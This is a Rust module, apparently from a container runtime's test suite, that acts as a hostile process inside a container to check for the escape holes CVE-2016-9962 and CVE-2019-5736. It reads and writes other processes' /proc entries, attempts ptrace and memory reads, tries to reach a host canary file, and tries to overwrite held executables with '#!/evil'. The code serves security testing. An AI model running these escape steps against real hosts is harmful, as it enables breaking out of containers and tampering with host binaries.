//! A process of a container that tries to get hold of every other process that it sees: the first one, for the tests of
//! CVE-2016-9962 and CVE-2019-5736.
//!
//! It makes a round whenever `/attack/go` appears, and removes that; while `/attack/race` is there it makes rounds without an end.
//! Each success is a line of `/attack/log`: `PID NAME WHAT`, where the name is the one that the process had before and after.

use super::raw;
use nix::fcntl::{OFlag, open};
use nix::sys::stat::Mode;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::Path;
use std::thread::sleep;
use std::time::Duration;

/// What one round found of one process, and the links to programs that were opened along the way.
struct Finder<'a> {
    pid: &'a str,
    /// Absolute path of a file of the host that is nowhere in the container.
    canary: &'a str,
    found: Vec<String>,
    kept: &'a mut Vec<OwnedFd>,
}

pub fn main(canary: &str) {
    let mut kept = Vec::new();
    loop {
        if Path::new("/attack/race").exists() {
            round(canary, &mut kept);
        } else if Path::new("/attack/go").exists() {
            round(canary, &mut kept);
            write_to_kept(&mut kept);
            fs::remove_file("/attack/go").expect("say that the round is over");
        } else {
            sleep(Duration::from_millis(1));
        }
    }
}

fn log(line: &str) {
    let file = OpenOptions::new().create(true).append(true).open("/attack/log");
    file.and_then(|mut file| writeln!(file, "{line}")).expect("write the log");
}

fn name(pid: &str) -> String {
    fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default().trim().to_owned()
}

fn round(canary: &str, kept: &mut Vec<OwnedFd>) {
    let own = std::process::id().to_string();
    for entry in fs::read_dir("/proc").expect("list the processes").flatten() {
        let pid = entry.file_name().to_string_lossy().into_owned();
        if pid == own || !pid.bytes().all(|byte| byte.is_ascii_digit()) {
            continue;
        }
        let before = name(&pid);
        let mut finder = Finder { pid: &pid, canary, found: Vec::new(), kept };
        finder.look();
        let found = finder.found;
        // What has executed its program meanwhile is the container's own.
        if name(&pid) == before {
            found.iter().for_each(|what| log(&format!("{pid} {before} {what}")));
        }
    }
}

/// A link to a program that was opened before may lead to a file that is no longer busy.
fn write_to_kept(kept: &mut Vec<OwnedFd>) {
    for link in kept.drain(..) {
        if OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", link.as_raw_fd())).is_ok() {
            log("0 kept exe write");
        }
    }
}

impl Finder<'_> {
    fn look(&mut self) {
        let place = format!("/proc/{}", self.pid);
        let file = |name: &str| format!("{place}/{name}");
        for link in ["exe", "root", "cwd"] {
            if let Ok(target) = fs::read_link(file(link)) {
                self.found.push(format!("link {link} {}", target.display()));
            }
        }
        if let Ok(link) = open(file("exe").as_str(), OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()) {
            self.kept.push(link);
        }
        for name in ["exe", "mem"] {
            self.tries(&format!("write {name}"), OpenOptions::new().write(true).open(file(name)).is_ok());
        }
        for name in ["exe", "mem"] {
            self.tries(&format!("read {name}"), File::open(file(name)).is_ok());
        }
        for name in ["environ", "maps", "syscall", "stack", "auxv"] {
            // Some of these can be opened by anybody, and then not be read.
            self.tries(&format!("read {name}"), fs::read(file(name)).is_ok_and(|text| !text.is_empty()));
        }
        for name in ["root", "cwd"] {
            self.directory(name);
        }
        for (list, what) in [("fd", "fd"), ("map_files", "map"), ("ns", "ns")] {
            for entry in fs::read_dir(file(list)).into_iter().flatten().flatten() {
                let number = entry.file_name().to_string_lossy().into_owned();
                // The names alone are anybody's.
                if let Ok(target) = fs::read_link(entry.path()) {
                    self.found.push(format!("{what} {number} {}", target.display()));
                }
                self.directory(&format!("{list}/{number}"));
                if list == "map_files" {
                    self.tries(&format!("write {what} {number}"), OpenOptions::new().write(true).open(entry.path()).is_ok());
                }
            }
        }
        let pid: i64 = self.pid.parse().expect("a number");
        self.tries("process_vm_readv", raw::may_read_memory(pid));
        self.tries("pidfd_getfd", raw::takes_a_descriptor(pid));
        self.tries("ptrace", raw::seizes(pid));
    }

    fn tries(&mut self, what: &str, succeeds: bool) {
        if succeeds {
            self.found.push(what.to_owned());
        }
    }

    /// Whether the host's files can be reached from there: by their own names, and upwards.
    fn directory(&mut self, name: &str) {
        let place = format!("/proc/{}/{name}", self.pid);
        let up = "/..".repeat(40);
        let canary = self.canary;
        let reached = [format!("{place}{canary}"), format!("{place}{up}{canary}")].iter().any(|path| File::open(path).is_ok());
        self.tries(&format!("canary by {name}"), reached);
    }
}

/// `inside hold PATH`: opens the link to a program in every way that could lead to writing to its file; prints what succeeds.
pub fn hold(path: &str) {
    let numbered = |fd: &OwnedFd| format!("/proc/self/fd/{}", fd.as_raw_fd());
    let by = |flags| open(path, flags | OFlag::O_CLOEXEC, Mode::empty());
    let mut succeeded = Vec::new();
    for (name, flags) in [("O_WRONLY", OFlag::O_WRONLY), ("O_RDWR", OFlag::O_RDWR), ("O_TRUNC", OFlag::O_WRONLY | OFlag::O_TRUNC)]
    {
        if by(flags).is_ok() {
            succeeded.push(name.to_owned());
        }
    }
    let held: Vec<OwnedFd> = [OFlag::O_PATH, OFlag::O_RDONLY].into_iter().filter_map(|flags| by(flags).ok()).collect();
    for fd in &held {
        let again = OpenOptions::new().write(true).open(numbered(fd));
        if again.as_ref().is_ok_and(|mut file| file.write_all(b"#!/evil").is_ok()) {
            succeeded.push("written".into());
        }
        if OpenOptions::new().write(true).truncate(true).open(numbered(fd)).is_ok() {
            succeeded.push("truncated".into());
        }
    }
    if fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o777)).is_ok() {
        succeeded.push("chmod".into());
    }
    if let Ok(file) = by(OFlag::O_RDONLY)
        && raw::maps_for_writing(file.as_raw_fd())
    {
        succeeded.push("mmap".into());
    }
    println!("{} {}", fs::read_link(path).unwrap_or_default().display(), succeeded.join(" "));
}
